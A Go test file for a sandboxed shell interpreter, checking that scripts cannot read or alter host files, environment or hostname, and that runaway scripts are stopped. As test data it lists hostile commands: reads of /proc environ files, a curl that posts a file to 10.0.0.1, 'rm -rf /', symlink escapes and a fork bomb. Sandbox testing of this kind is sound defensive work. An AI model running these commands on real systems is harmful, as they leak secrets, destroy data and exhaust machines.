package shell_test

import (
	"context"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"driftlab/clusters/embedded/node/shell"
)

// TestNothingOfTheHost tries every way out that a script may think of.
func TestNothingOfTheHost(t *testing.T) {
	host := filepath.Join(t.TempDir(), "host-secret")
	if err := os.WriteFile(host, []byte("host-secret\n"), 0o666); err != nil {
		t.Fatal(err)
	}
	t.Setenv("HOST_VARIABLE", "host-secret")
	planted := filepath.Join(os.TempDir(), "sh-interp-planted")
	if err := os.WriteFile(planted, []byte("host-secret\n"), 0o666); err != nil {
		t.Fatal(err)
	}
	defer os.Remove(planted)
	name, _ := os.Hostname()
	for _, src := range []string{
		"cat " + host, "cat < " + host, "x=$(<" + host + "); echo $x", ". " + host, "source " + host, "sh " + host, host,
		"cat ../../../.." + host, "cd " + filepath.Dir(host) + " && echo *", "ln -s " + host + " /tmp/l; cat /tmp/l",
		"ln -s / /tmp/r; cat /tmp/r" + host, "tar cf - " + host, "cp " + host + " /tmp/x; cat /tmp/x", "mv " + host + " /tmp/x; cat /tmp/x",
		"cat " + planted, "cat < " + planted, "TMPDIR=" + os.TempDir() + "; cat < " + planted, "echo " + filepath.Dir(host) + "/*", "ls " + filepath.Dir(host),
		"echo $HOST_VARIABLE", "env", "cat /proc/self/environ", "cat /proc/1/environ", "set", "sh -c env", "env -i sh -c env", "export -p",
		"cat /proc/self/root" + host, "cat /proc/$$/root" + host, "cat /dev/fd/3", "find / -name 'host-*'", "grep -r host-secret /",
		"test -e " + host + " && echo host-secret", "[[ -r " + host + " ]] && echo host-secret", "[ " + host + " -ef " + host + " ] && echo host-secret",
		"pwd() { :; }; unset -f pwd; PWD=" + filepath.Dir(host) + "; pwd -P | grep -o host-secret", "builtin pwd -P; command pwd -P",
		"type " + host + " && echo host-secret", "command -v " + host + " && echo host-secret", "hash " + host,
		"exec < " + host + "; cat", "read x < " + host + "; echo $x", "curl -s file://" + host, "wget -O- file://" + host, "curl -d @" + host + " 10.0.0.1",
		"f='cat " + host + "'; eval \"$f\"; trap \"$f\" EXIT", "alias c='cat " + host + "'; c", "hostname; uname -n",
		"echo ~root ~daemon ~" + os.Getenv("USER"), "x=~bin; echo $x | grep host-secret", "mapfile x < " + host + "; echo $x",
	} {
		out, errs, _ := sh(t, src)
		messages := strings.ReplaceAll(errs, host, "") // a message may repeat the name that the script gave
		if strings.Contains(strings.ReplaceAll(out, host, ""), "host-secret") || strings.Contains(messages, "secret\n") || name != "" && strings.Contains(out, name) {
			t.Errorf("%q shows the host: %q, %q", src, out, errs)
		}
	}
	for _, src := range []string{
		"echo x > " + host, "rm -f " + host, "echo x > " + planted, "echo x | tee " + host, "chmod 0 " + host, "truncate -s 0 " + host,
		"ln -s " + host + " /tmp/l; echo x > /tmp/l; rm /tmp/l", "dd if=/dev/zero of=" + host + " count=1", "sed -i d " + host,
		"ln -s " + filepath.Dir(host) + " /tmp/d; rm -rf /tmp/d/; rm -rf /tmp/d/*; echo x > /tmp/d/host-secret; rm -rf /",
	} {
		sh(t, src)
		for _, file := range []string{host, planted} {
			if data, err := os.ReadFile(file); err != nil || string(data) != "host-secret\n" {
				t.Fatalf("%q changed the host: %q, %v", src, data, err)
			}
		}
	}
	out, _, _ := sh(t, "echo /*")
	if out != "/bin /data /dev /etc /proc /root /tmp\n" {
		t.Errorf("/* is %q", out)
	}
}

// TestHostileScripts ends each of them, by a limit or by a kill, and the node program lives.
func TestHostileScripts(t *testing.T) {
	before := runtime.NumGoroutine()
	for _, c := range []struct {
		src  string
		kill bool // it runs for ever: it is to end within 100 ms of its kill
		code int
	}{
		{"while true; do :; done", true, 137},
		{"while true; do true & done", true, 137},
		{"bash -c 'while ((1)); do ((1)); done'", true, 137},
		{"for ((;;)); do [[ 1 ]]; done", true, 137},
		{"yes > /dev/null", true, 137},
		{"cat /dev/zero > /dev/null", true, 137},
		{"sleep 1000 | sleep 1000 | cat", true, 137},
		{"wait & sleep 1000 & wait", true, 137},
		{"tail -f /data/fruit", true, 137},
		{"trap 'while :; do :; done' EXIT", true, 137},
		{"sh -c 'sh -c \"sleep 1000\"; :'; :", true, 137},
		{"find / -exec sleep 1000 \\;", true, 137},
		{"awk 'BEGIN {while (1) x++}'", true, 137},
		{"awk 'BEGIN {x=\"a\"; while (1) x = x x}'; echo done", false, 0},
		{"cat | cat | cat", false, 0},
		{"f() { f; }; f", false, 139},
		{"f() { g; }; g() { f; }; f; echo no", false, 139},
		{"x='eval \"$x\"'; eval \"$x\"", false, 139},
		{"echo '. /tmp/s' > /tmp/s; . /tmp/s", false, 139},
		{"f() { echo $(f); }; f", false, 139},
		{"f() { f \"$1$1\"; }; f aaaaaaaa", false, 137},
		{"x=aaaaaaaa; while true; do x=$x$x; done", false, 137},
		{"x=aaaaaaaa; while [[ 1 ]]; do x=$x$x; done", false, 137},
		{"x=aaaaaaaa; for ((;;)); do x+=$x; done", false, 137},
		{"x=aaaaaaaa; while true; do x=\"${x//a/$x}\"; done", false, 137},
		{"bash -c 'a=(x); while true; do a+=(\"${a[@]}\"); done'", false, 137},
		{"x=$(yes); echo ${#x}", false, 0},
		{"x=$(cat /dev/zero); echo done", false, 0},
		{"x=$(</dev/zero); echo done", false, 0},
		{"read x < /dev/zero; echo done", false, 0},
		{"bash -c 'echo {1..100000000}'; echo done", false, 0},
		{"printf '%999999999d' 1; echo done", false, 0},
		{"i=0; while :; do i=$((i+1)); eval \"f$i() { :; }\"; done", false, 137},
		{"i=0; while [ $i -lt 1000 ]; do i=$((i+1)); eval 'true & wait $!'; done; echo done", false, 0},
		{"bash -c 'select x in a; do :; done < /dev/zero'; echo done", false, 0},
		{"bash -c '[[ -t 0 ]]; [[ -t 1 ]]; echo $((1 << -1)); echo $((1 % 0))'; echo done", false, 0},
		{"bash -c 'declare -A a=(x)'; echo done", false, 0},
		{"bash -c 'declare -A a=([1+1]=x) & wait'; echo done", false, 0},
		{"bash -c '[[ -O /etc/passwd ]] | [[ -G /etc/passwd ]] & wait'; echo done", false, 0},
		{"bash -c 'unset \"a[\"; echo ${!nope} ${a[1/0]} $((1/0)) | cat'; echo done", false, 0},
		{"sort /dev/zero; uniq /dev/zero; sed s/a/b/ /dev/zero; grep a /dev/zero; wc -l < /dev/null; echo done", false, 0},
		{"seq 1 0.0000001 100000000 | head -1; echo done", false, 0},
		{"dd if=/dev/zero of=/tmp/big bs=1M 2>/dev/null; echo done", false, 0},
		{"i=0; while echo x > /tmp/f$i; do i=$((i+1)); mkdir -p /tmp/d$i/e; [ $i -gt 300 ] && break; done; echo done", false, 0},
		{"echo " + strings.Repeat("$(", 20000) + strings.Repeat(")", 20000), false, 2},
		{"echo " + strings.Repeat("$(", 400) + strings.Repeat(")", 400), false, 0},
		{strings.Repeat("(", 60000) + "true" + strings.Repeat(")", 60000), false, 2},
		{"echo $((" + strings.Repeat("!", 100000) + "1))", false, 2},
		{strings.Repeat("if ", 30000), false, 2},
	} {
		name := c.src[:min(len(c.src), 60)]
		var code int
		var late time.Duration
		var out, errs string
		for range 3 { // the machine may be busy: one kill of three has to be prompt
			code, late, out, errs = attempt(t, c.src, c.kill)
			if !c.kill || late < 100*time.Millisecond {
				break
			}
		}
		if late >= 100*time.Millisecond {
			t.Errorf("%q ended %v late", name, late)
		}
		if code != c.code {
			t.Errorf("%q gave %d, want %d: %q %q", name, code, c.code, out[:min(200, len(out))], errs[:min(300, len(errs))])
		}
	}
	// A fork bomb meets its limit; a kill ends what it has started.
	p, _, errs := process(t, "sh", "-c", ":() { : | : & }; :; b() { b | b & b; }; b")
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
	defer cancel()
	shell.Program(ctx, p)
	if !strings.Contains(errs.String(), "can't fork") && !strings.Contains(errs.String(), "too many nested") {
		t.Errorf("no limit met: %q", errs.String()[:min(300, len(errs.String()))])
	}
	for range 300 {
		if runtime.NumGoroutine() <= before+10 {
			return
		}
		time.Sleep(10 * time.Millisecond)
	}
	t.Errorf("%d goroutines are left of %d", runtime.NumGoroutine(), before)
}

// attempt runs a script, kills it after a while, and says how long after its kill it ended.
func attempt(t *testing.T, src string, kill bool) (code int, late time.Duration, out, errs string) {
	p, stdout, stderr := process(t, "sh", "-c", src)
	limit := time.Minute
	if kill {
		limit = 200 * time.Millisecond
	}
	ctx, cancel := context.WithTimeout(context.Background(), limit)
	defer cancel()
	began := time.Now()
	code = shell.Program(ctx, p)
	return code, max(0, time.Since(began)-limit), stdout.String(), stderr.String()
}
